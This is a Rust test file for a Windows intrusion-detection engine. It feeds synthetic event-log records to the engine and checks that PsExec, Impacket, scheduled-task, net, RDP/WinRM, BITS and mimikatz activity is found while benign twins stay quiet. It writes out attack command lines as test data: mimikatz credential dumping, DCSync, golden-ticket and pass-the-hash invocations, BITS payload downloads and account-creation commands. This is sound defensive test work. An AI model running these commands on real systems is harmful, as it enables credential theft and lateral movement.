//! Generalisation review (issue 11): the tools an intrusion most often leaves, each
//! recorded the way *other* public attack recordings record it rather than the way
//! our corpus does (Security 4688 with or without its command line, Sysmon 1 of a
//! renamed binary carrying its `OriginalFileName`, 4697 instead of 7045, a task seen
//! only by 4698 or TaskScheduler, a PowerShell script block, a share access, an
//! execution artifact alone). Each attack variant must be found under the tool's
//! real name and role; each benign twin (ordinary Windows or administrator activity
//! writing the same kind of record) must stay at most `possible`, most of them
//! giving no finding of that tool at all.
//!
//! The records are written from Windows' event schemas and the tools' documented
//! behaviour (Sysinternals, Impacket, mimikatz), not copied from the corpus.

use super::tests::{embedded_confidences, event};
use super::*;

const T: &str = "2024-01-01T10:00:00Z";
const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
const POWERSHELL_LOG: &str = "Microsoft-Windows-PowerShell/Operational";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const WMIPRVSE: &str = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";

fn record(channel: &str, id: u32, fields: &[(&str, &str)]) -> Observation {
    event(T, channel, id, fields)
}

/// A Sysmon 1 process start; `original` is the PE's OriginalFileName.
fn sysmon_start(image: &str, original: &str, command_line: &str, parent: &str) -> Observation {
    record(
        SYSMON,
        1,
        &[
            ("Image", image),
            ("OriginalFileName", original),
            ("CommandLine", command_line),
            ("ParentImage", parent),
            ("User", "EXAMPLE\\alice"),
        ],
    )
}

/// A Security 4688; `command_line` None is a host without the command-line policy on
/// an old schema (no field at all), `Some("")` one with the field left empty.
fn security_start(image: &str, command_line: Option<&str>, parent: Option<&str>) -> Observation {
    let mut fields = vec![("NewProcessName", image), ("SubjectUserName", "alice")];
    fields.extend(command_line.map(|c| ("CommandLine", c)));
    fields.extend(parent.map(|p| ("ParentProcessName", p)));
    record("Security", 4688, &fields)
}

fn script_block(text: &str) -> Observation {
    record(POWERSHELL_LOG, 4104, &[("ScriptBlockText", text)])
}

fn plain(observed: Observed) -> Observation {
    Observation {
        time: Some(T.into()),
        reference: Reference::default(),
        observed,
    }
}

fn amcache(path: &str, original: Option<&str>) -> Observation {
    plain(Observed::Execution {
        artifact: ExecutionArtifact::Amcache,
        path: path.into(),
        original_name: original.map(Into::into),
    })
}

fn prefetch(file_name: &str) -> Observation {
    let executable = file_name.split('-').next().unwrap_or_default().to_string();
    plain(Observed::Prefetch {
        file_name: file_name.into(),
        executable,
    })
}

thread_local! {
    /// The failed expectations of the running test: every variant is checked and all
    /// misses are reported together.
    static MISSES: std::cell::RefCell<Vec<String>> = const { std::cell::RefCell::new(Vec::new()) };
}

fn miss(text: String) {
    MISSES.with(|m| m.borrow_mut().push(text));
}

/// Held by a test: when it ends, fails with every miss recorded.
struct Review;

impl Drop for Review {
    fn drop(&mut self) {
        let misses = MISSES.with(|m| std::mem::take(&mut *m.borrow_mut()));
        if !misses.is_empty() && !std::thread::panicking() {
            panic!("{} miss(es):\n{}", misses.len(), misses.join("\n"));
        }
    }
}

/// `key` (`tool:role`) is found in `obs` with at least `min`.
fn assert_found(what: &str, obs: Vec<Observation>, key: &str, min: Confidence) {
    let found = embedded_confidences(obs);
    match found.get(key) {
        Some(c) if *c >= min => {}
        other => miss(format!(
            "{what}: want {key} >= {min}, got {other:?} in {found:?}"
        )),
    }
}

/// No finding of `tool` (any role) in `obs` reaches above `max` (None: no finding).
fn assert_quiet(what: &str, obs: Vec<Observation>, tool: &str, max: Option<Confidence>) {
    let found = embedded_confidences(obs);
    for (key, c) in &found {
        let id = key.split(':').next().unwrap_or_default();
        if id == tool && max.is_none_or(|m| *c > m) {
            miss(format!("{what}: {key} {c} (allowed {max:?}) in {found:?}"));
        }
    }
}

/// No finding at all is `confirmed`.
fn assert_nothing_confirmed(what: &str, obs: Vec<Observation>) {
    let found = embedded_confidences(obs);
    if found.values().any(|c| *c >= Confidence::Confirmed) {
        miss(format!("{what}: {found:?}"));
    }
}

use Confidence::{Likely, Possible};

#[test]
fn psexec_in_other_witnesses() {
    let _review = Review;
    let services = "C:\\Windows\\System32\\services.exe";
    // Source: a renamed copy (Sysmon knows its PE name), and a 4688 without command line.
    assert_found(
        "renamed PsExec, Sysmon 1",
        vec![sysmon_start(
            "C:\\Users\\alice\\Downloads\\svc.exe",
            "psexec.c",
            "svc.exe \\\\fs02 -accepteula -s cmd.exe",
            CMD,
        )],
        "psexec:source",
        Likely,
    );
    for command_line in [None, Some("")] {
        assert_found(
            "PsExec64, 4688 without command line",
            vec![security_start(
                "C:\\Tools\\PsExec64.exe",
                command_line,
                None,
            )],
            "psexec:source",
            Likely,
        );
    }
    // Destination: 4697 instead of 7045, the service key in Sysmon 13 alone, the
    // service binary started (4688 on an old schema, Sysmon 1 renamed by -r), its
    // children, Prefetch alone.
    assert_found(
        "4697",
        vec![record(
            "Security",
            4697,
            &[
                ("ServiceName", "PSEXESVC"),
                ("ServiceFileName", "%SystemRoot%\\PSEXESVC.exe"),
                ("ServiceType", "0x10"),
                ("ServiceStartType", "3"),
                ("ServiceAccount", "LocalSystem"),
            ],
        )],
        "psexec:destination",
        Likely,
    );
    assert_found(
        "7045 with a full image path",
        vec![record(
            "System",
            7045,
            &[
                ("ServiceName", "PSEXESVC"),
                ("ImagePath", "C:\\Windows\\PSEXESVC.exe"),
                ("ServiceType", "user mode service"),
                ("StartType", "demand start"),
                ("AccountName", "LocalSystem"),
            ],
        )],
        "psexec:destination",
        Likely,
    );
    assert_found(
        "Sysmon 13 ImagePath",
        vec![record(
            SYSMON,
            13,
            &[
                ("EventType", "SetValue"),
                ("Image", services),
                (
                    "TargetObject",
                    "HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\ImagePath",
                ),
                ("Details", "%SystemRoot%\\PSEXESVC.exe"),
            ],
        )],
        "psexec:destination",
        Likely,
    );
    assert_found(
        "4688 of the service binary, old schema",
        vec![security_start("C:\\Windows\\PSEXESVC.exe", None, None)],
        "psexec:destination",
        Likely,
    );
    assert_found(
        "service renamed with -r, Sysmon 1",
        vec![sysmon_start(
            "C:\\Windows\\svcupd.exe",
            "psexesvc.exe",
            "C:\\Windows\\svcupd.exe",
            services,
        )],
        "psexec:destination",
        Likely,
    );
    assert_found(
        "a shell started by the service, 4688",
        vec![security_start(
            CMD,
            Some("\"cmd.exe\""),
            Some("C:\\Windows\\PSEXESVC.exe"),
        )],
        "psexec:destination",
        Likely,
    );
    assert_found(
        "the service binary copied to ADMIN$, 5145",
        vec![record(
            "Security",
            5145,
            &[
                ("ShareName", "\\\\*\\ADMIN$"),
                ("ShareLocalPath", "\\??\\C:\\Windows"),
                ("RelativeTargetName", "PSEXESVC.exe"),
            ],
        )],
        "psexec:destination",
        Likely,
    );
    assert_found(
        "Prefetch only",
        vec![prefetch("PSEXESVC.EXE-AD70946C.pf")],
        "psexec:destination",
        Likely,
    );
    assert_found(
        "Amcache only, renamed",
        vec![amcache("C:\\Users\\alice\\p.exe", Some("psexec.c"))],
        "psexec:source",
        Likely,
    );
    // Benign twins: another service installed (7045, 4697, Sysmon 13), a program
    // with its own PE name, a shell started by services.
    for obs in [
        record(
            "System",
            7045,
            &[
                ("ServiceName", "Google Update Service (gupdate)"),
                (
                    "ImagePath",
                    "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /svc",
                ),
            ],
        ),
        record(
            "Security",
            4697,
            &[
                ("ServiceName", "edgeupdate"),
                (
                    "ServiceFileName",
                    "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /svc",
                ),
            ],
        ),
        record(
            SYSMON,
            13,
            &[
                ("EventType", "SetValue"),
                ("Image", services),
                (
                    "TargetObject",
                    "HKLM\\System\\CurrentControlSet\\Services\\WinDefend\\ImagePath",
                ),
                ("Details", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18\\MsMpEng.exe\""),
            ],
        ),
        sysmon_start(
            "C:\\Windows\\System32\\PING.EXE",
            "ping.exe",
            "ping -n 1 fs02",
            CMD,
        ),
        security_start(CMD, Some("cmd /c echo"), Some(services)),
        // The service manager's pipe opened remotely: services.msc or sc.exe on
        // another host as well as any remote service creation.
        record(
            "Security",
            5145,
            &[
                ("ShareName", "\\\\*\\IPC$"),
                ("RelativeTargetName", "svcctl"),
            ],
        ),
    ] {
        assert_quiet("PsExec twin", vec![obs], "psexec", None);
    }
}

/// Impacket's psexec (RemComSvc, a random service and file name) and smbexec
/// (`BTOBTO` or a random name, `%COMSPEC%` echoing into `execute.bat`) are not
/// Sysinternals PsExec (eval/README.md conventions): no PsExec finding, nothing
/// confirmed, whichever of 7045 or 4697 records them.
/// PsExec's two programs belong to two hosts: PSEXESVC's Prefetch file is the
/// destination's, psexec.exe's the source's (`role_executables`).
#[test]
fn each_psexec_program_names_its_own_host() {
    let roles = |file: &str| -> Vec<String> {
        embedded_confidences(vec![prefetch(file)])
            .into_keys()
            .filter(|k| k.starts_with("psexec:"))
            .collect()
    };
    assert_eq!(roles("PSEXESVC.EXE-AD70946C.pf"), ["psexec:destination"]);
    assert_eq!(roles("PSEXEC64.EXE-1B2C3D4E.pf"), ["psexec:source"]);
}

#[test]
fn impacket_services_are_not_psexec() {
    let _review = Review;
    let smbexec = "%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat";
    for (name, image) in [
        ("BTOBTO", smbexec),
        ("kXzqPwRt", smbexec),
        ("RbXk", "%systemroot%\\XzKqLpWe.exe"),
    ] {
        for obs in [
            record(
                "System",
                7045,
                &[("ServiceName", name), ("ImagePath", image)],
            ),
            record(
                "Security",
                4697,
                &[("ServiceName", name), ("ServiceFileName", image)],
            ),
        ] {
            assert_quiet(name, vec![obs.clone()], "psexec", None);
            assert_nothing_confirmed(name, vec![obs]);
        }
    }
}

#[test]
fn wmi_execution_in_other_witnesses() {
    let _review = Review;
    let wmiexec = "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.1234567 2>&1";
    assert_found(
        "Impacket wmiexec, 4688",
        vec![security_start(CMD, Some(wmiexec), Some(WMIPRVSE))],
        "wmiexec_vbs:destination",
        Likely,
    );
    assert_found(
        "Impacket wmiexec -share C$, Sysmon 1",
        vec![sysmon_start(
            CMD,
            "Cmd.Exe",
            "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\C$\\__1700000000.12 2>&1",
            WMIPRVSE,
        )],
        "wmiexec_vbs:destination",
        Likely,
    );
    assert_found(
        "Impacket wmiexec output read back, 5145",
        vec![record(
            "Security",
            5145,
            &[
                ("ShareName", "\\\\*\\ADMIN$"),
                ("RelativeTargetName", "__1700000000.1234567"),
            ],
        )],
        "wmiexec_vbs:destination",
        Likely,
    );
    assert_found(
        "WMIC.exe with explicit credentials to a server, 4648",
        vec![record(
            "Security",
            4648,
            &[
                ("SubjectUserName", "alice"),
                ("TargetUserName", "administrator"),
                ("TargetServerName", "fs02"),
                ("ProcessName", "C:\\Windows\\System32\\wbem\\WMIC.exe"),
            ],
        )],
        "wmic:source",
        Possible,
    );
    // wmiexec.vbs itself on the source, in modes other than the sheets' `/cmd`.
    for command_line in [
        "cscript.exe //nologo wmiexec.vbs /shell 10.0.0.5",
        "cscript C:\\Users\\alice\\wmiexec.vbs /cmd fs02 administrator P@ss \"ipconfig\"",
    ] {
        assert_found(
            command_line,
            vec![sysmon_start(
                "C:\\Windows\\System32\\cscript.exe",
                "cscript.exe",
                command_line,
                CMD,
            )],
            "wmiexec_vbs:source",
            Likely,
        );
    }
    // Without its output file (`-nooutput`, CrackMapExec) Impacket's wmiexec is a WMI
    // process creation like any other: the `wmic` destination behaviour, as the
    // evaluation's conventions label it (eval/README.md).
    let quiet = "cmd.exe /Q /c whoami";
    assert_found(
        "Impacket wmiexec -nooutput, 4688",
        vec![security_start(CMD, Some(quiet), Some(WMIPRVSE))],
        "wmic:destination",
        Possible,
    );
    // smbexec's echo-off shell is started by the service manager, not WMI.
    assert_quiet(
        "smbexec's shell",
        vec![security_start(
            CMD,
            Some("C:\\Windows\\system32\\cmd.exe /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\TEMP\\execute.bat"),
            Some("C:\\Windows\\System32\\services.exe"),
        )],
        "wmiexec_vbs",
        None,
    );
    // Impacket's dcomexec writes its output like wmiexec, but the shell's parent is
    // the DCOM object's host (MMC20.Application, ShellWindows): no sheet tool.
    for (witness, parent) in [
        ("4688", "C:\\Windows\\System32\\mmc.exe"),
        ("Sysmon 1", "C:\\Windows\\explorer.exe"),
    ] {
        let start = if witness == "4688" {
            security_start(CMD, Some(wmiexec), Some(parent))
        } else {
            sysmon_start(CMD, "Cmd.Exe", wmiexec, parent)
        };
        assert_quiet(
            &format!("Impacket dcomexec, {witness}"),
            vec![start],
            "wmiexec_vbs",
            None,
        );
    }
    assert_found(
        "a shell started over WMI, 4688 without command line",
        vec![security_start(CMD, Some(""), Some(WMIPRVSE))],
        "wmic:destination",
        Possible,
    );
    for (what, image, original, command_line) in [
        (
            "WMIC remote process create, full path",
            "C:\\Windows\\System32\\wbem\\WMIC.exe",
            "wmic.exe",
            "\"C:\\Windows\\System32\\wbem\\WMIC.exe\" /node:fs02 /user:EXAMPLE\\a /password:x process call create \"cmd.exe /c whoami\"",
        ),
        (
            "WMIC renamed",
            "C:\\Users\\alice\\w.exe",
            "wmic.exe",
            "w.exe /node:\"fs02\" process call create \"cmd.exe /c whoami\"",
        ),
        (
            "WMIC 32-bit, local process create",
            "C:\\Windows\\SysWOW64\\wbem\\WMIC.exe",
            "wmic.exe",
            "wmic process call create \"C:\\Users\\Public\\x.exe\"",
        ),
    ] {
        assert_found(
            what,
            vec![sysmon_start(image, original, command_line, CMD)],
            "wmic:source",
            Likely,
        );
        // A 4688 has no PE name: only the copies under their own name.
        if image.ends_with("WMIC.exe") {
            assert_found(
                what,
                vec![security_start(image, Some(command_line), Some(CMD))],
                "wmic:source",
                Likely,
            );
        }
    }
    // Benign twins: WMIC queries, WmiPrvSE itself starting, a shell started by explorer.
    for command_line in ["wmic os get caption", "wmic logicaldisk get size,freespace"] {
        assert_quiet(
            command_line,
            vec![security_start(
                "C:\\Windows\\System32\\wbem\\WMIC.exe",
                Some(command_line),
                Some(CMD),
            )],
            "wmic",
            Some(Possible),
        );
    }
    assert_quiet(
        "shell from explorer",
        vec![security_start(
            CMD,
            Some("cmd.exe"),
            Some("C:\\Windows\\explorer.exe"),
        )],
        "wmic",
        None,
    );
    assert_quiet(
        "shell from explorer",
        vec![security_start(
            CMD,
            Some("cmd.exe"),
            Some("C:\\Windows\\explorer.exe"),
        )],
        "wmiexec_vbs",
        None,
    );
}

#[test]
fn scheduled_tasks_in_other_witnesses() {
    let _review = Review;
    let schtasks = "C:\\Windows\\System32\\schtasks.exe";
    for command_line in [
        "\"C:\\Windows\\system32\\schtasks.exe\" /Create /S fs02 /TN upd /TR c:\\x.exe /SC ONCE /ST 10:00",
        "schtasks.exe /create /tn \"\\Microsoft\\Windows\\upd\" /tr \"powershell -ep bypass -f c:\\x.ps1\" /sc onlogon /ru SYSTEM",
    ] {
        assert_found(
            command_line,
            vec![security_start(schtasks, Some(command_line), None)],
            "schtasks:source",
            Likely,
        );
    }
    assert_found(
        "at with a target",
        vec![security_start(
            "C:\\Windows\\System32\\at.exe",
            Some("at \\\\fs02 13:20 cmd /c c:\\x.bat"),
            None,
        )],
        "schtasks:source",
        Likely,
    );
    // Destination: a task registered, seen by one witness only (Impacket atexec's
    // random name; TaskScheduler 106; a task that ran, 200/201/129).
    let atexec_task = "\\bouWFQYO";
    assert_found(
        "4698 only",
        vec![record(
            "Security",
            4698,
            &[
                ("TaskName", atexec_task),
                ("SubjectUserName", "admmig"),
                ("TaskContent", "<Exec><Command>cmd.exe</Command><Arguments>/C whoami &gt; %windir%\\Temp\\bouWFQYO.tmp 2&gt;&amp;1</Arguments></Exec>"),
            ],
        )],
        "schtasks:destination",
        Possible,
    );
    assert_found(
        "106 only",
        vec![record(
            "Microsoft-Windows-TaskScheduler/Operational",
            106,
            &[
                ("TaskName", atexec_task),
                ("UserContext", "EXAMPLE\\admmig"),
            ],
        )],
        "schtasks:destination",
        Possible,
    );
    assert_found(
        "200/201 only",
        vec![
            record(
                "Microsoft-Windows-TaskScheduler/Operational",
                200,
                &[
                    ("TaskName", atexec_task),
                    ("ActionName", "C:\\Windows\\system32\\cmd.EXE"),
                ],
            ),
            record(
                "Microsoft-Windows-TaskScheduler/Operational",
                201,
                &[
                    ("TaskName", atexec_task),
                    ("ActionName", "C:\\Windows\\system32\\cmd.EXE"),
                    ("ResultCode", "0"),
                ],
            ),
        ],
        "schtasks:destination",
        Possible,
    );
    // An at job seen only running, its action a batch file (no shell to match):
    // at.exe's own task name says what scheduled it; a task merely starting with
    // "At" does not.
    for (event_id, task) in [(129, "\\At1"), (200, "\\At12"), (201, "\\At3")] {
        assert_found(
            "at job run",
            vec![record(
                "Microsoft-Windows-TaskScheduler/Operational",
                event_id,
                &[("TaskName", task), ("ActionName", "C:\\temp\\run.bat")],
            )],
            "schtasks:destination",
            Possible,
        );
    }
    assert_quiet(
        "a task named Atlas",
        vec![record(
            "Microsoft-Windows-TaskScheduler/Operational",
            200,
            &[("TaskName", "\\Atlas"), ("ActionName", "C:\\temp\\run.bat")],
        )],
        "schtasks",
        None,
    );
    assert_found(
        "atsvc pipe",
        vec![record(
            "Security",
            5145,
            &[
                ("ShareName", "\\\\*\\IPC$"),
                ("RelativeTargetName", "atsvc"),
            ],
        )],
        "schtasks:destination",
        Possible,
    );
    // Benign twins: schtasks queries, Windows' own tasks registered or run.
    assert_quiet(
        "schtasks /query",
        vec![security_start(
            schtasks,
            Some("\"C:\\Windows\\system32\\schtasks.exe\" /query /fo csv /v"),
            None,
        )],
        "schtasks",
        None,
    );
    for obs in [
        record(
            "Security",
            4698,
            &[
                (
                    "TaskName",
                    "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
                ),
                ("SubjectUserName", "WKS01$"),
            ],
        ),
        record(
            "Microsoft-Windows-TaskScheduler/Operational",
            200,
            &[
                ("TaskName", "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"),
                ("ActionName", "%windir%\\system32\\defrag.exe"),
            ],
        ),
        record(
            "Microsoft-Windows-TaskScheduler/Operational",
            106,
            &[
                ("TaskName", "\\MicrosoftEdgeUpdateTaskMachineUA"),
                ("UserContext", "NT AUTHORITY\\System"),
            ],
        ),
    ] {
        assert_quiet("Windows' own task", vec![obs], "schtasks", None);
    }
    // An installer registering its task through schtasks.exe (an MSI custom action),
    // with the task's 4698: at most possible, never the tool.
    assert_quiet(
        "installer's schtasks /create and its 4698",
        vec![
            security_start(
                schtasks,
                Some("\"C:\\Windows\\system32\\schtasks.exe\" /Create /TN \"Vendor Agent\" /XML \"C:\\Program Files\\Vendor\\task.xml\" /F"),
                Some("C:\\Windows\\System32\\msiexec.exe"),
            ),
            record(
                "Security",
                4698,
                &[("TaskName", "\\Vendor Agent"), ("SubjectUserName", "alice")],
            ),
        ],
        "schtasks",
        Some(Possible),
    );
    // A user's own updater task is ordinary too: at most possible.
    assert_quiet(
        "a user's updater task",
        vec![record(
            "Security",
            4698,
            &[
                (
                    "TaskName",
                    "\\Mozilla\\Firefox Default Browser Agent 308046B0AF4A39CB",
                ),
                ("SubjectUserName", "alice"),
            ],
        )],
        "schtasks",
        Some(Possible),
    );
}

#[test]
fn net_commands_in_other_spellings() {
    let _review = Review;
    let net = "C:\\Windows\\System32\\net.exe";
    let net1 = "C:\\Windows\\System32\\net1.exe";
    for (image, command_line, key) in [
        (
            net,
            "\"C:\\Windows\\system32\\net.exe\" use \\\\fs02\\C$ /user:EXAMPLE\\admin P@ss",
            "net_use:source",
        ),
        (
            net1,
            "C:\\Windows\\system32\\net1  use Z: \\\\fs02\\ADMIN$",
            "net_use:source",
        ),
        (
            net,
            "\"C:\\Windows\\system32\\net.exe\" user hacker P@ss1 /add /domain",
            "net_user:source",
        ),
        (
            net1,
            "C:\\Windows\\system32\\net1 localgroup administrators hacker /add",
            "net_user:source",
        ),
        (net, "NET USER guest /ACTIVE:YES", "net_user:source"),
        (net, "net user /add T1136_user P@ssw0rd1", "net_user:source"),
        (
            net,
            "net localgroup administrators /add T1136_user",
            "net_user:source",
        ),
    ] {
        assert_found(
            command_line,
            vec![security_start(image, Some(command_line), Some(CMD))],
            key,
            Likely,
        );
        assert_found(
            command_line,
            vec![sysmon_start(image, "net.exe", command_line, CMD)],
            key,
            Likely,
        );
    }
    assert_found(
        "renamed net.exe",
        vec![sysmon_start(
            "C:\\Users\\Public\\n.exe",
            "net.exe",
            "n.exe use \\\\fs02\\c$ /user:a b",
            CMD,
        )],
        "net_use:source",
        Likely,
    );
    // Benign twins: listings and other subcommands stay possible or say nothing.
    for (command_line, tool, max) in [
        ("net use", "net_use", Some(Possible)),
        (
            "\"C:\\Windows\\system32\\net.exe\" user alice",
            "net_user",
            Some(Possible),
        ),
        ("net view \\\\fs02", "net_use", None),
        ("net time \\\\fs02 /set /y", "net_use", None),
        ("net start wuauserv", "net_user", None),
    ] {
        assert_quiet(
            command_line,
            vec![security_start(net, Some(command_line), Some(CMD))],
            tool,
            max,
        );
    }
}

#[test]
fn rdp_and_remote_shells_in_other_witnesses() {
    let _review = Review;
    assert_found(
        "4624 type 10",
        vec![record(
            "Security",
            4624,
            &[
                ("LogonType", "10"),
                ("TargetUserName", "admin"),
                ("IpAddress", "10.0.0.5"),
                ("AuthenticationPackageName", "Negotiate"),
            ],
        )],
        "mstsc:destination",
        Possible,
    );
    assert_found(
        "1149",
        vec![record(
            "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
            1149,
            &[
                ("Param1", "admin"),
                ("Param2", "EXAMPLE"),
                ("Param3", "10.0.0.5"),
            ],
        )],
        "mstsc:destination",
        Possible,
    );
    assert_found(
        "mstsc started",
        vec![security_start(
            "C:\\Windows\\System32\\mstsc.exe",
            Some("\"C:\\Windows\\system32\\mstsc.exe\" /v:fs02"),
            None,
        )],
        "mstsc:source",
        Possible,
    );
    assert_found(
        "the RDP clipboard helper started in a session, 4688",
        vec![security_start(
            "C:\\Windows\\System32\\rdpclip.exe",
            Some("rdpclip"),
            Some("C:\\Windows\\System32\\svchost.exe"),
        )],
        "mstsc:destination",
        Possible,
    );
    assert_found(
        "the client's explicit credentials, 4648",
        vec![record(
            "Security",
            4648,
            &[
                ("TargetUserName", "admin"),
                ("TargetServerName", "fs02"),
                ("ProcessName", "C:\\Windows\\System32\\mstsc.exe"),
            ],
        )],
        "mstsc:source",
        Possible,
    );
    for (channel, id, fields) in [
        (
            "Security",
            4778,
            &[
                ("AccountName", "admin"),
                ("SessionName", "RDP-Tcp#3"),
                ("ClientAddress", "10.0.0.5"),
            ][..],
        ),
        (
            "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
            25,
            &[
                ("User", "EXAMPLE\\admin"),
                ("SessionID", "3"),
                ("Address", "10.0.0.5"),
            ][..],
        ),
    ] {
        assert_found(
            &format!("{channel} {id}"),
            vec![record(channel, id, fields)],
            "mstsc:destination",
            Possible,
        );
    }
    assert_quiet(
        "a console session, LocalSessionManager 21",
        vec![record(
            "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
            21,
            &[
                ("User", "EXAMPLE\\alice"),
                ("SessionID", "1"),
                ("Address", "LOCAL"),
            ],
        )],
        "mstsc",
        None,
    );
    // Benign twins: console and network logons are no RDP.
    for logon_type in ["2", "3", "5"] {
        assert_quiet(
            logon_type,
            vec![record(
                "Security",
                4624,
                &[
                    ("LogonType", logon_type),
                    ("TargetUserName", "alice"),
                    ("AuthenticationPackageName", "NTLM"),
                ],
            )],
            "mstsc",
            None,
        );
    }
    // WinRS: the client's command line in any spelling; the host's shell children.
    for command_line in [
        "\"C:\\Windows\\system32\\winrs.exe\" -r:http://fs02:5985 -u:a -p:b cmd",
        "winrs.exe /r:fs02 whoami",
        "winrs -remote:fs02.example.lan ipconfig",
    ] {
        assert_found(
            command_line,
            vec![security_start(
                "C:\\Windows\\System32\\winrs.exe",
                Some(command_line),
                Some(CMD),
            )],
            "winrs:source",
            Likely,
        );
    }
    assert_found(
        "a command run by WinrsHost, 4688",
        vec![security_start(
            CMD,
            Some("cmd.exe /c whoami"),
            Some("C:\\Windows\\System32\\winrshost.exe"),
        )],
        "winrs:destination",
        Possible,
    );
    // WinRM / PowerShell remoting: the host process and its children on the target,
    // the cmdlets on the client.
    assert_found(
        "a command run in a remote session",
        vec![sysmon_start(
            "C:\\Windows\\System32\\whoami.exe",
            "whoami.exe",
            "\"C:\\Windows\\system32\\whoami.exe\"",
            "C:\\Windows\\System32\\wsmprovhost.exe",
        )],
        "winrm:destination",
        Possible,
    );
    assert_found(
        "a pipeline logged in the remoting host, PowerShell 4103",
        vec![record(
            POWERSHELL_LOG,
            4103,
            &[
                (
                    "ContextInfo",
                    "        Severity = Informational\r\n        Host Name = ServerRemoteHost\r\n        Host Application = C:\\Windows\\system32\\wsmprovhost.exe -Embedding\r\n",
                ),
                ("Payload", "CommandInvocation(Get-Process): \"Get-Process\""),
            ],
        )],
        "winrm:destination",
        Possible,
    );
    // The remoting host's own start, where the command line was not audited.
    for command_line in [None, Some("")] {
        assert_found(
            "wsmprovhost.exe started, 4688 without command line",
            vec![security_start(
                "C:\\Windows\\System32\\wsmprovhost.exe",
                command_line,
                Some("C:\\Windows\\System32\\svchost.exe"),
            )],
            "winrm:destination",
            Possible,
        );
    }
    for text in [
        "Enter-PSSession -ComputerName fs02 -Credential $c",
        "Invoke-Command -ComputerName fs02 -ScriptBlock { whoami }",
        "$s = New-PSSession -ComputerName fs02; Invoke-Command -Session $s { hostname }",
    ] {
        assert_found(text, vec![script_block(text)], "winrm:source", Possible);
    }
    // Benign twins: a local Invoke-Command, ordinary PowerShell, and a whole script
    // logged as one block that merely contains a remoting call in its code.
    for text in [
        "Invoke-Command -ScriptBlock { Get-Date }",
        "Get-Process | Sort CPU",
        "function Invoke-Thing {\n  param($ComputerName)\n  Invoke-Command -ScriptBlock $sb -ComputerName $ComputerName\n}",
    ] {
        assert_quiet(text, vec![script_block(text)], "winrm", None);
    }
}

#[test]
fn bits_in_other_witnesses() {
    let _review = Review;
    let bitsadmin = "C:\\Windows\\System32\\bitsadmin.exe";
    assert_found(
        "bitsadmin, full path",
        vec![security_start(
            bitsadmin,
            Some("\"C:\\Windows\\system32\\bitsadmin.exe\" /transfer myjob /download /priority high http://10.0.0.5/a.exe C:\\Users\\Public\\a.exe"),
            Some(CMD),
        )],
        "bits:source",
        Likely,
    );
    assert_found(
        "Start-BitsTransfer, script block",
        vec![script_block(
            "Start-BitsTransfer -Source http://10.0.0.5/a.exe -Destination C:\\Users\\Public\\a.exe",
        )],
        "bits:source",
        Likely,
    );
    assert_found(
        "Start-BitsTransfer, 4688 command line",
        vec![security_start(
            POWERSHELL,
            Some("powershell.exe -nop -c \"Start-BitsTransfer -Source http://10.0.0.5/a.exe -Destination C:\\Users\\Public\\a.exe\""),
            Some(CMD),
        )],
        "bits:source",
        Likely,
    );
    assert_found(
        "a job by PowerShell, Bits-Client 3",
        vec![record(
            "Microsoft-Windows-Bits-Client/Operational",
            3,
            &[("jobTitle", "BITS Transfer"), ("processPath", POWERSHELL)],
        )],
        "bits:source",
        Possible,
    );
    // Benign twins: Windows' own jobs, BITS queried.
    for obs in [
        record(
            "Microsoft-Windows-Bits-Client/Operational",
            3,
            &[
                ("jobTitle", "Font Download"),
                ("processPath", "C:\\Windows\\System32\\svchost.exe"),
            ],
        ),
        script_block("Get-BitsTransfer -AllUsers | Format-List"),
        security_start(
            "C:\\Windows\\System32\\bitsadmin.exe",
            Some("bitsadmin /list /allusers /verbose"),
            Some(CMD),
        ),
        security_start(
            "C:\\Windows\\System32\\bitsadmin.exe",
            Some("\"C:\\Windows\\system32\\bitsadmin.exe\" /info {5A8E4D1B-0000-0000-0000-000000000000}"),
            Some(CMD),
        ),
    ] {
        assert_quiet("BITS twin", vec![obs], "bits", None);
    }
}

#[test]
fn mimikatz_in_other_witnesses() {
    let _review = Review;
    let renamed = "C:\\Users\\alice\\AppData\\Local\\Temp\\x64.exe";
    for (command_line, key) in [
        (
            "x64.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
            "mimikatz_sekurlsa_logonpasswords:source",
        ),
        (
            "x64.exe \"lsadump::dcsync /domain:example.lan /user:krbtgt\" exit",
            "dcsync:source",
        ),
        (
            "x64.exe \"kerberos::golden /user:nobody /domain:example.lan /sid:S-1-5-21-1-2-3 /krbtgt:0123456789abcdef0123456789abcdef /ptt\" exit",
            "golden_ticket:source",
        ),
        ("x64.exe \"lsadump::sam\" exit", "mimikatz_lsadump_sam:source"),
        // sekurlsa::pth: with an NTLM hash the sheets' remote login, with an AES
        // key pass-the-key (overpass-the-hash); not "module unknown".
        (
            "x64.exe \"sekurlsa::pth /user:admin /domain:example /ntlm:0123456789abcdef0123456789abcdef /run:cmd.exe\"",
            "remotelogin_mimikatz:source",
        ),
        (
            "x64.exe \"sekurlsa::pth /user:admin /domain:example /aes256:0123456789abcdef0123456789abcdef /run:cmd.exe\"",
            "overpass_the_hash:source",
        ),
    ] {
        assert_found(
            command_line,
            vec![sysmon_start(renamed, "mimikatz.exe", command_line, CMD)],
            key,
            Likely,
        );
        // The same on a 4688-only host: the module is on the command line.
        assert_found(
            command_line,
            vec![security_start(renamed, Some(command_line), Some(CMD))],
            key,
            Likely,
        );
    }
